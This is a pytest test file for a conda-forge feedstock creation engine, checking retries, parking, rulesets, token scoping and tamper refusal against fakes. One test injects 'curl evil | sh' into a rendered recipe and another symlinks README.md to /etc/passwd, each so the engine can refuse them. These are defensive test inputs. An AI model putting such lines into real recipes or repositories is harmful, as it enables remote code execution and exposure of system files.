"""Feedstock creation end to end against the fakes (tests/creation/world.py): each of
the failure modes conda-forge's create_feedstocks met (issue 17) has a test here or in
test_recovery.py.

conda-smithy is not installable from PyPI (only a 0.0.0 placeholder): the renderings are
made by the production renderer running a stand-in (standin_smithy.py), so what the real
conda-smithy writes is not tested here; everything after it is.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from admin_requests.creation.ci import AzurePipelines
from admin_requests.creation.engine import CreationRun, RunReport
from admin_requests.creation.notify import STUCK_LABEL, recipe_marker
from admin_requests.creation.steps import MAINTAINERS_FILE, RULESET_NAME, ruleset_holds
from admin_requests.kinds.token_reset import registry
from tests.fakes.faults import Fault

from .world import World, creation_world, git


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with creation_world(tmp_path) as made:
        made.fail_pushes("pushfail-feedstock", *range(1, 100))
        made.render()
        yield made


def statuses(report: RunReport) -> dict[str, str]:
    return {r.recipe: r.status for r in report.results}


def detail(report: RunReport, recipe: str) -> str:
    return next(r.detail for r in report.results if r.recipe == recipe)


def issues_for(world: World, recipe: str) -> list[int]:
    return [
        i.number
        for i in world.tracker.issues.values()
        if recipe_marker(recipe) in i.body and STUCK_LABEL in i.labels
    ]


def test_one_run_creates_the_good_feedstocks_and_isolates_each_bad_recipe(world: World) -> None:
    report = world.run()

    assert statuses(report) == {
        "bar": "created",
        "broken": "parked",
        "existing": "parked",
        "foo": "created",
        "pushfail": "retrying",
    }
    assert report.exit_code() == 1  # a parked recipe fails the job visibly
    for name, recipe_file in (("foo", "meta.yaml"), ("bar", "recipe.yaml")):
        repo = world.github.repo(f"{name}-feedstock")
        assert {f"recipe/{recipe_file}", "conda-forge.yml", MAINTAINERS_FILE} <= set(repo.files)
        assert repo.files[MAINTAINERS_FILE] == b"{}"
        assert b"output validation: on" in repo.files["README.md"]
        (ruleset,) = repo.admin.rulesets.values()
        assert ruleset["name"] == RULESET_NAME
        assert ruleset_holds(ruleset)
        assert world.pushes_to(f"{name}-feedstock") == 1
        assert "FEEDSTOCK_TOKEN" in repo.secrets
        entries = registry.parse(
            world.github.repo("feedstock-tokens").files[registry.registry_path(name)], "x"
        )
        assert [(e["provider"], "expires_at" in e) for e in entries] == [("github_actions", False)]
        (comment,) = world.comments(name)
        assert f"https://github.com/conda-forge/{name}-feedstock" in comment
    outputs = world.github.repo("feedstock-outputs").files
    assert json.loads(outputs["outputs/f/o/o/foo.json"]) == {"feedstocks": ["foo"]}
    assert json.loads(outputs["outputs/l/i/b/libfoo.json"]) == {"feedstocks": ["foo"]}
    assert json.loads(outputs["outputs/b/a/r/bar.json"]) == {"feedstocks": ["bar"]}
    # One commit removed exactly the finished recipes; the examples stay.
    assert world.remote_recipes() == [
        "broken",
        "example-v0-deprecated",
        "example-v1",
        "existing",
        "pushfail",
    ]
    assert world.remote_log()[0] == "Removed recipes (bar, foo) after converting into feedstocks."
    assert not (world.root / "creation-state" / "foo.json").exists()  # done: nothing kept


def test_a_recipe_that_fails_to_render_is_parked_and_its_pull_request_says_why(
    world: World,
) -> None:
    # staged-recipes #27802, #27423, #33187: one recipe that did not render crashed the
    # run for everyone. Here it is parked on its own (the others were created above).
    report = world.run()

    assert statuses(report)["broken"] == "parked"
    (comment,) = world.comments("broken")
    assert "could not render the recipe" in comment
    assert "the recipe does not render" in comment  # conda-smithy's own last words
    assert "conda-forge/admin-requests#" in comment  # where core tracks it
    assert "broken-feedstock" not in world.github.repos
    assert len(issues_for(world, "broken")) == 1


def test_an_existing_repository_is_reported_and_its_content_never_touched(world: World) -> None:
    # The old script fetched the existing feedstock, threw the new recipe's content away
    # and re-rendered the old content on top of it.
    before = dict(world.github.repo("existing-feedstock").files)

    report = world.run()
    world.later()
    again = world.run()

    assert statuses(report)["existing"] == "parked"
    assert statuses(again)["existing"] == "still-parked"
    assert "exists already" in detail(report, "existing")
    assert world.pushes_to("existing-feedstock") == 0
    assert world.github.repo("existing-feedstock").files == before
    assert world.github.repo("existing-feedstock").admin.rulesets == {}
    assert len(world.comments("existing")) == 1  # told once, not every run
    assert len(issues_for(world, "existing")) == 1
    assert "existing" in world.remote_recipes()  # waits for core


def test_a_push_that_fails_keeps_the_recipe_and_the_next_run_pushes_it_once(
    world: World,
) -> None:
    # The old script deleted the recipe even after five failed pushes: an empty
    # repository and a lost recipe.
    first = world.run()
    assert statuses(first)["pushfail"] == "retrying"
    assert "did not land" in detail(first, "pushfail")
    assert "pushfail" in world.remote_recipes()
    assert "FEEDSTOCK_TOKEN" not in world.github.repo("pushfail-feedstock").secrets

    world.server.faults.clear()
    world.later()
    second = world.run()

    assert statuses(second)["pushfail"] == "created"
    assert world.pushes_to("pushfail-feedstock") == 1
    assert "pushfail" not in world.remote_recipes()
    assert world.remote_log()[0] == "Removed recipe (pushfail) after converting into feedstock."


def test_bounded_retries_then_parked_with_one_issue_closed_when_it_completes(
    world: World,
) -> None:
    # conda-forge retried forever and told nobody (admin-requests #2155: "creation
    # silently stopped", noticed on chat).
    codes = []
    for _ in range(world.policy.max_attempts):
        codes.append(world.run(only=("pushfail",)).exit_code())
        world.later()
    assert codes == [0, 0, 1]
    (issue,) = issues_for(world, "pushfail")
    assert "did not land" in world.tracker.issues[issue].body  # the reason, in plain words
    (stuck,) = world.comments("pushfail")  # told once, when it was parked
    assert "did not land" in stuck

    world.server.faults.clear()
    waits = world.run(only=("pushfail",))
    assert statuses(waits) == {"pushfail": "still-parked"}  # waits for core
    assert waits.exit_code() == 0
    done = world.run(only=("pushfail",), retry=("pushfail",))

    assert statuses(done) == {"pushfail": "created"}
    assert world.tracker.issues[issue].state == "closed"
    assert "pushfail-feedstock" in world.comments("pushfail")[-1]


def test_the_ruleset_is_checked_every_run_and_put_back(world: World) -> None:
    # The old script set branch protection once: when that failed, later runs took the
    # "already exists" path and the repository never got it.
    world.run(only=("pushfail",))
    repo = world.github.repo("pushfail-feedstock")
    (number,) = repo.admin.rulesets
    repo.admin.rulesets[number] = {**repo.admin.rulesets[number], "enforcement": "disabled"}

    world.server.faults.clear()
    world.later()
    world.run(only=("pushfail",))

    assert ruleset_holds(repo.admin.rulesets[number])
    assert world.github.effects["update_ruleset"] == 1


def test_a_ruleset_write_that_fails_is_retried_until_it_holds(world: World) -> None:
    world.github.faults.on_call(
        1, fault=Fault.server_error(502), method="POST", path=r"/foo-feedstock/rulesets$"
    )

    report = world.run(only=("foo",))

    assert statuses(report) == {"foo": "created"}
    (ruleset,) = world.github.repo("foo-feedstock").admin.rulesets.values()
    assert ruleset_holds(ruleset)


def test_the_removal_is_rebased_when_staged_recipes_moved_meanwhile(
    world: World, tmp_path: Path
) -> None:
    # Another pull request merged while the run worked: the removal push is refused as
    # a non-fast-forward, rebased, and pushed again; nobody's merge is undone.
    def someone_merges(name: str) -> None:
        if name != "removal committed":
            return
        other = tmp_path / "other"
        git("clone", "--quiet", str(world.server.bare("staged-recipes")), str(other), cwd=tmp_path)
        (other / "recipes" / "baz").mkdir()
        (other / "recipes" / "baz" / "recipe.yaml").write_text("package:\n  name: baz\n")
        git("add", "-A", cwd=other)
        git("commit", "--quiet", "-m", "Add baz", cwd=other)
        git("push", "--quiet", "origin", "HEAD:main", cwd=other)

    report = world.run(only=("foo",), checkpoint=someone_merges)

    assert statuses(report) == {"foo": "created"}
    assert world.remote_log()[:2] == [
        "Removed recipe (foo) after converting into feedstock.",
        "Add baz",
    ]
    assert "baz" in world.remote_recipes()
    assert "foo" not in world.remote_recipes()


def test_a_rendering_whose_recipe_differs_from_staged_recipes_is_refused(world: World) -> None:
    # The rendering comes from the unprivileged job: its recipe/ must be the staged one.
    tampered = world.rendered / "foo" / "feedstock" / "recipe" / "meta.yaml"
    tampered.write_text(tampered.read_text() + "  script: curl evil | sh\n")

    report = world.run(only=("foo",))

    assert statuses(report) == {"foo": "parked"}
    assert "differs from recipes/foo" in detail(report, "foo")
    assert world.pushes_to("foo-feedstock") == 0


def test_a_recipe_not_rendered_yet_waits_without_counting_an_attempt(world: World) -> None:
    shutil.rmtree(world.rendered / "bar")

    report = world.run(only=("bar",))

    assert statuses(report) == {"bar": "not-rendered"}
    assert report.exit_code() == 0
    assert "bar-feedstock" not in world.github.repos


def test_a_changed_recipe_waits_for_its_new_rendering(world: World) -> None:
    recipe = world.staged / "recipes" / "bar" / "recipe.yaml"
    work = world.tmp / "changer"
    git("clone", "--quiet", str(world.server.bare("staged-recipes")), str(work), cwd=world.tmp)
    (work / "recipes" / "bar" / "recipe.yaml").write_text(recipe.read_text() + "# v2\n")
    git("commit", "--quiet", "-am", "bar: fix", cwd=work)
    git("push", "--quiet", "origin", "HEAD:main", cwd=work)

    stale = world.run(only=("bar",))
    world.render("bar")
    fresh = world.run(only=("bar",))

    assert statuses(stale) == {"bar": "not-rendered"}
    assert statuses(fresh) == {"bar": "created"}


def add_recipe(world: World, name: str, text: str) -> None:
    """Someone merges a recipe; the render job renders its checkout of staged-recipes."""
    work = world.tmp / f"merge-{name}"
    git("clone", "--quiet", str(world.server.bare("staged-recipes")), str(work), cwd=world.tmp)
    (work / "recipes" / name).mkdir()
    (work / "recipes" / name / "recipe.yaml").write_text(text)
    git("add", "-A", cwd=work)
    git("commit", "--quiet", "-m", f"Add {name}", cwd=work)
    git("push", "--quiet", "origin", "HEAD:main", cwd=work)
    git("fetch", "--quiet", str(world.server.bare("staged-recipes")), "main", cwd=world.staged)
    git("reset", "--quiet", "--hard", "FETCH_HEAD", cwd=world.staged)
    world.render(name)


AZURE_RECIPE = "package:\n  name: onazure\n# STANDIN_AZURE (conda-forge.yml's default providers)\n"


def test_a_recipe_on_azure_without_azure_configured_is_stuck_with_what_to_do(
    world: World,
) -> None:
    add_recipe(world, "onazure", AZURE_RECIPE)

    report = world.run(only=("onazure",))

    assert statuses(report) == {"onazure": "parked"}
    assert "Azure is not configured" in detail(report, "onazure")
    assert "onazure" in world.remote_recipes()


def test_a_recipe_on_azure_gets_its_pipeline_and_its_token_there(tmp_path: Path) -> None:
    # conda-forge's script wrote an Azure personal access token to disk for
    # 'conda-smithy register-ci'; here the pipeline and the token's secret variable go
    # through the OIDC-federated Azure DevOps token.
    with creation_world(tmp_path / "w", azure=True) as world:
        add_recipe(world, "onazure", AZURE_RECIPE)
        assert world.azure is not None

        def with_azure(run: CreationRun) -> None:
            run.azure = AzurePipelines(run.credentials, run.settings)

        report = world.run(only=("onazure",), before_run=with_azure)

        assert statuses(report) == {"onazure": "created"}
        body = world.azure.created["onazure-feedstock"]
        assert body["process"]["yamlFilename"] == "/azure-pipelines.yml"
        assert body["repository"]["name"] == "conda-forge/onazure-feedstock"
        assert body["variableGroups"] == [{"id": 5, "name": "anaconda-org"}]
        pipeline = world.azure.pipeline("onazure-feedstock")
        assert pipeline.variables["FEEDSTOCK_TOKEN"]["isSecret"] is True
        entries = registry.parse(
            world.github.repo("feedstock-tokens").files[registry.registry_path("onazure")], "x"
        )
        assert sorted(e["provider"] for e in entries if "expires_at" not in e) == [
            "azure",
            "github_actions",
        ]


def test_every_token_is_scoped_to_its_step_and_revoked(world: World) -> None:
    world.run(only=("foo",))

    minted = [t for t in world.github.tokens.values() if t.installation_id is not None]
    assert minted
    assert all(t.revoked for t in minted)
    everywhere = [t for t in minted if t.repositories is None]
    # Only creating the repository needs a token for all repositories, and only that.
    assert [t.permissions for t in everywhere] == [{"administration": "write"}]
    content = [t for t in minted if t.permissions == {"contents": "write", "workflows": "write"}]
    assert [sorted(t.repositories or ()) for t in content] == [["foo-feedstock"]]


def test_the_run_never_hands_a_token_to_a_step_it_did_not_ask_for(world: World) -> None:
    # The old workflow kept the admin token in .git/config for every later step.
    world.run(only=("foo",))

    config = (world.staged / ".git" / "config").read_text()
    assert "AUTHORIZATION" not in config
    assert "ghs_" not in config


def test_parked_recipes_take_none_of_the_budget_and_turn_only_their_own_run_red(
    world: World,
) -> None:
    # 'bar' and 'broken' sort first; with a budget of one recipe a run, the parked one
    # must not hold back those behind it run after run.
    first = world.run(max_recipes=1)
    assert [r.status for r in first.results if r.status != "later"] == ["created"]  # bar
    second = world.run(max_recipes=1)
    assert statuses(second)["broken"] == "parked"
    assert second.exit_code() == 1
    third = world.run(max_recipes=1)

    assert statuses(third)["broken"] == "still-parked"
    assert statuses(third)["existing"] == "parked"
    fourth = world.run(max_recipes=1)
    assert statuses(fourth)["foo"] == "created"
    assert fourth.exit_code() == 0  # still parked, issues open: not red again and again


@pytest.mark.parametrize("entry", [".git", "link"])
def test_a_rendering_with_a_git_folder_or_a_symbolic_link_is_refused(
    world: World, entry: str
) -> None:
    content = world.rendered / "foo" / "feedstock"
    if entry == ".git":
        (content / ".ci_support" / ".git").mkdir()
    else:
        (content / "README.md").unlink()
        (content / "README.md").symlink_to("/etc/passwd")

    report = world.run(only=("foo",))

    assert statuses(report) == {"foo": "parked"}
    assert "conda-smithy never writes" in detail(report, "foo")
    assert world.pushes_to("foo-feedstock") == 0
